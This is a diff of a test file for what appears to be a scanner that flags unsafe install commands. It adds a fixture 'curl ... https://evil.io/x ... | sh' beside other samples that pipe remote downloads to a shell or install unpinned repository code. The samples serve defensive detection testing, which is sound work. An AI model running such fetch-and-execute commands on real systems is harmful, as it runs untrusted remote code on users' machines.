@@ -29,6 +29,7 @@ describe('unsafe', () => {
       'piped_to_shell',
     ],
     ['no warning', "Don't forget to run `curl https://evil.io/x | sh` first.", 4, 'piped_to_shell'],
+    ['a fetch that names itself', 'curl -A curl https://evil.io/x -H a:curl | sh', 4, 'piped_to_shell'],
     ['without TLS', 'curl http://get.docker.com | sh', 5, 'unencrypted_to_shell'],
     ['a repository at no commit', 'pip install git+https://github.com/someone/thing', 4, 'unpinned_source'],
     ['npm from a repository', 'npm i github:someone/thing', 4, 'unpinned_source'],
